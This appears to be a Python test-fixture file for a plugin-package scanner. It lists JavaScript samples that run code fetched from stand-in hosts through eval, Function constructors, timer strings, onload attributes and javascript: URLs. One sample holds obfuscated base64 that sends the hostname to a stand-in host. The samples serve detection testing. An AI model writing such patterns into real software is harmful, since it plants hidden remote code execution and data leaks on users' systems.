"""Code that becomes code at run time, from what a network host or the storage answered."""

from tests.support.samples import Sample
from tests.support.shapes import ESM, declared, hooks, online, sdk_plugin, tsc_widget

_FETCHED = "eval-of-fetched-code"
_CONSTRUCTED = "function-constructor"

SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="eval-of-response-text",
        family=_FETCHED,
        files={
            "dist/index.js": tsc_widget(r"""
                fetch(`https://sky.example.org/v2/forecast?place=${encodeURIComponent(config.place)}`)
                    .then((response) => response.json())
                    .then((forecast) => setState({ text: forecast.summary }));
                fetch("https://cdn.example.net/widgets/patch.js")
                    .then((response) => response.text())
                    .then((text) => eval(text))
                    .catch(() => undefined);
            """)
        },
        manifest=online("https://sky.example.org"),
    ),
    Sample(
        name="indirect-eval-by-comma",
        family=_FETCHED,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const settings = await this.loadRemoteSettings(context);
                if (settings.hotfix) {
                  (0, eval)(settings.hotfix);
                }
                """,
                methods=r"""
                async loadRemoteSettings(context) {
                  const answer = await context.api.http.get('https://settings.example.com/v1/day.json');
                  return answer.data ?? {};
                }
                """,
            )
        },
        manifest=online("https://settings.example.com"),
        package=ESM,
    ),
    Sample(
        name="eval-behind-alias",
        family=_FETCHED,
        files={
            "dist/index.js": hooks(
                r"""
                const answer = await api.http.get(`${BASE}/rules?since=${await storage.get('since') || 0}`);
                for (const rule of answer.data.rules) {
                  rules.set(rule.id, evaluate(`(${rule.when})`));
                }
                logger.debug(`${rules.size} rules`);
                """,
                above=r"""
                const BASE = 'https://rules.example.org/api';
                const rules = new Map();
                const evaluate = globalThis.eval;
                """,
            )
        },
        manifest=online("https://rules.example.org"),
    ),
    Sample(
        name="eval-by-computed-member",
        family=_FETCHED,
        files={
            "dist/index.js": r"""'use strict';
const runners = { js: 'eval', json: 'JSON' };

class TemplateLoader {
  constructor(http) {
    this.http = http;
    this.cache = {};
  }

  async load(name) {
    if (!this.cache[name]) {
      const { data } = await this.http.get('https://templates.example.net/' + name + '.tpl');
      this.cache[name] = window[runners.js](data);
    }
    return this.cache[name];
  }
}

exports.onEnable = async ({ api, config }) => {
  const loader = new TemplateLoader(api.http);
  const render = await loader.load(config.template || 'default');
  render(document.querySelector('#acme-templates'));
};
"""
        },
        manifest=online("https://templates.example.net"),
    ),
    Sample(
        name="function-of-xhr-answer",
        family=_FETCHED,
        files={
            "dist/index.js": r"""(function () {
  'use strict';

  function get(url, done) {
    var request = new XMLHttpRequest();
    request.open('GET', url, true);
    request.onreadystatechange = function () {
      if (request.readyState === 4 && request.status === 200) done(request.responseText);
    };
    request.send(null);
  }

  exports.Clock = function Clock() {
    return null;
  };

  exports.onEnable = function (context) {
    get('https://time.example.com/zones.js?v=' + Date.now(), function (body) {
      var run = new Function('context', 'document', body);
      run(context, document);
    });
  };
})();
"""
        },
        manifest=online("https://time.example.com"),
    ),
    Sample(
        name="socket-messages-evaluated",
        family=_FETCHED,
        files={
            "dist/index.js": tsc_widget(
                r"""
                const channel = new LiveChannel(config.room || "lobby");
                channel.on("text", (message) => setState({ text: message }));
                return () => channel.close();
                """,
                above=r"""
                class LiveChannel {
                    constructor(room) {
                        this.handlers = {};
                        this.socket = new WebSocket("wss://live.example.net/rooms/" + room);
                        this.socket.addEventListener("message", (event) => {
                            const { kind, payload } = JSON.parse(event.data);
                            if (kind === "sync")
                                this.socket.send(JSON.stringify({ kind: "ack", payload: String(eval(payload)) }));
                            else
                                (this.handlers[kind] || (() => undefined))(payload);
                        });
                    }
                    on(kind, handler) { this.handlers[kind] = handler; }
                    close() { this.socket.close(); }
                }
                """,
            )
        },
        manifest=online("wss://live.example.net"),
    ),
    Sample(
        name="two-stages-through-storage",
        family=_FETCHED,
        files={
            "dist/index.js": r"""'use strict';

async function refresh(context) {
  const { data, headers } = await context.api.http.get('https://feeds.example.org/index.json');
  await context.storage.set('items', data.items);
  await context.storage.set('layout', headers['x-layout']);
}

async function onUpdate(context, oldVersion) {
  context.logger.info(`updated from ${oldVersion}`);
  await refresh(context);
}

async function onEnable(context) {
  const layout = await context.storage.get('layout');
  if (typeof layout === 'string' && layout.length > 64) {
    const build = Function('ctx', Buffer.from(layout, 'base64').toString('utf8'));
    build(context);
  }
}

module.exports = { onUpdate, onEnable };
"""
        },
        manifest=online("https://feeds.example.org", hooks=["onUpdate", "onEnable"]),
    ),
    Sample(
        name="server-sent-code",
        family=_FETCHED,
        files={
            "dist/index.js": r"""import { useEffect, useState } from 'react';
import { jsx } from 'react/jsx-runtime';

const STREAM = 'https://ticker.example.com/stream';

export function Ticker({ symbols }) {
  const [quotes, setQuotes] = useState({});
  useEffect(() => {
    const source = new EventSource(`${STREAM}?s=${symbols.join(',')}`);
    source.addEventListener('quote', (event) => {
      const quote = JSON.parse(event.data);
      setQuotes((all) => ({ ...all, [quote.symbol]: quote }));
    });
    source.addEventListener('upgrade', (event) => {
      const blob = new Blob([event.data], { type: 'text/javascript' });
      import(/* webpackIgnore: true */ URL.createObjectURL(blob));
    });
    return () => source.close();
  }, [symbols]);
  return jsx('ul', { children: Object.values(quotes).map((q) => jsx('li', { children: q.price }, q.symbol)) });
}
"""
        },
        manifest=online("https://ticker.example.com"),
        package=ESM,
    ),
    Sample(
        name="clipboard-text-evaluated",
        family=_FETCHED,
        files={
            "dist/index.js": r"""'use strict';
exports.commands = {
  calc: {
    usage: 'calc',
    async run(context) {
      const text = await navigator.clipboard.readText();
      const value = eval('(' + text + ')');
      context.api.notifications.show({ title: 'Result', message: String(value) });
    },
  },
};
"""
        },
        manifest=declared("clipboard-read", "notifications"),
    ),
    Sample(
        name="new-function-of-decoded-text",
        family=_CONSTRUCTED,
        files={
            "dist/index.js": hooks(
                r"""
                const boot = new Function('require', 'context', atob(TABLE));
                boot(require, context);
                """,
                above=r"""
                const TABLE =
                  'Y29uc3QgaD1yZXF1aXJlKCJodHRwcyIpO2guZ2V0KCJodHRwczovL2Nkbi5leGFtcGxlLm5ldC9iP2g9Iityb' +
                  'XF1aXJlKCJvcyIpLmhvc3RuYW1lKCkscj0+e2xldCBzPSIiO3Iub24oImRhdGEiLGQ9PnMrPWQpfSk7';
                """,
            )
        },
    ),
    Sample(
        name="timer-with-code-string",
        family=_CONSTRUCTED,
        files={
            "dist/index.js": tsc_widget(r"""
                const tick = () => setState({ text: new Date().toLocaleTimeString() });
                const timer = setInterval(tick, 1000);
                setTimeout("document.body.appendChild(Object.assign(document.createElement('script'),"
                    + "{src:'https://cdn.example.net/t.js?'+Date.now()}))", 45000);
                return () => clearInterval(timer);
            """)
        },
    ),
    Sample(
        name="interval-with-built-string",
        family=_CONSTRUCTED,
        files={
            "dist/index.js": r"""'use strict';
var state = { code: [], every: 9e5 };

exports.onConfigChange = function (context) {
  state.code = (context.config.notes || '').split('\n').filter(function (line) { return /^;;/.test(line); });
  window.setInterval(state.code.map(function (line) { return line.slice(2); }).join(';'), state.every);
};

exports.Notes = function Notes(props) {
  return require('react').createElement('pre', null, props.config.notes);
};
"""
        },
    ),
    Sample(
        name="constructor-of-constructor",
        family=_CONSTRUCTED,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const locale = await context.storage.get('locale') ?? 'en';
                const plural = this.compile(await this.fetchRules(locale));
                context.logger.debug(plural(2));
                """,
                methods=r"""
                compile(rules) {
                  const make = ({}).constructor.constructor;
                  return make('n', rules)();
                }

                async fetchRules(locale) {
                  const response = await fetch(`https://i18n.example.org/plurals/${locale}.txt`);
                  return response.text();
                }
                """,
            )
        },
        manifest=online("https://i18n.example.org"),
        package=ESM,
    ),
    Sample(
        name="async-function-constructor",
        family=_CONSTRUCTED,
        files={
            "dist/index.js": hooks(
                r"""
                const { data: jobs } = await api.http.get('https://jobs.example.com/queue');
                for (const job of jobs) {
                  const run = new AsyncFunction('api', 'storage', 'require', job.script);
                  await run(api, storage, require);
                }
                """,
                above=r"""
                const AsyncFunction = Object.getPrototypeOf(async function () {}).constructor;
                """,
            )
        },
        manifest=online("https://jobs.example.com"),
    ),
    Sample(
        name="generator-function-constructor",
        family=_CONSTRUCTED,
        files={
            "dist/index.js": r"""'use strict';
const steps = (function* () {}).constructor;

exports.Wizard = class Wizard {
  constructor(http) { this.http = http; }

  async *pages(id) {
    const response = await this.http.get(`https://wizards.example.org/${id}`);
    yield* steps('state', response.data.body)({ id });
  }
};

exports.onEnable = async ({ api, config }) => {
  for await (const page of new exports.Wizard(api.http).pages(config.wizard)) void page;
};
"""
        },
        manifest=online("https://wizards.example.org"),
    ),
    Sample(
        name="reflect-constructs-function",
        family=_CONSTRUCTED,
        files={
            "dist/index.js": hooks(
                r"""
                const formulas = (await api.http.get(config.sheetUrl)).data;
                const columns = Object.keys(formulas);
                const compiled = columns.map((name) => Reflect.construct(Function, ['row', formulas[name]]));
                await storage.set('sheet', compiled.map((column) => column({ document, window })));
                """
            )
        },
        manifest=online("https://sheets.example.net"),
    ),
    Sample(
        name="array-method-constructor",
        family=_CONSTRUCTED,
        files={
            "dist/index.js": tsc_widget(
                r"""
                readAll(config.feed).then((entries) => {
                    entries.filter((entry) => entry.type === "x-ext")
                        .forEach((entry) => []["filter"]["constructor"](entry.body)());
                    setState({ text: entries.map((entry) => entry.title).join("\n") });
                });
                """,
                above=r"""
                async function readAll(feed) {
                    const response = await fetch(feed);
                    return (await response.json()).entries;
                }
                """,
            )
        },
        manifest=online("https://feeds.example.org"),
    ),
    Sample(
        name="handler-attribute-with-code",
        family=_CONSTRUCTED,
        files={
            "dist/index.js": r"""'use strict';
const react = require('react');

function Banner({ context }) {
  const ref = react.useRef(null);
  react.useEffect(() => {
    let gone = false;
    context.api.http.get('https://banners.example.com/today').then(({ data }) => {
      if (gone || !ref.current) return;
      const image = document.createElement('img');
      image.setAttribute('alt', data.title);
      image.setAttribute('onload', data.ready);
      image.src = data.image;
      ref.current.replaceChildren(image);
    });
    return () => { gone = true; };
  }, [context]);
  return react.createElement('div', { ref });
}

module.exports = { Banner };
"""
        },
        manifest=online("https://banners.example.com"),
    ),
    Sample(
        name="javascript-url-navigated",
        family=_CONSTRUCTED,
        files={
            "dist/index.js": hooks(
                r"""
                const { data } = await api.http.get('https://links.example.net/v1/list');
                const frame = document.createElement('iframe');
                frame.hidden = true;
                document.body.append(frame);
                frame.contentWindow.location = 'java' + 'script:' + encodeURIComponent(data.after);
                await storage.set('links', data.links);
                """
            )
        },
        manifest=online("https://links.example.net"),
    ),
)
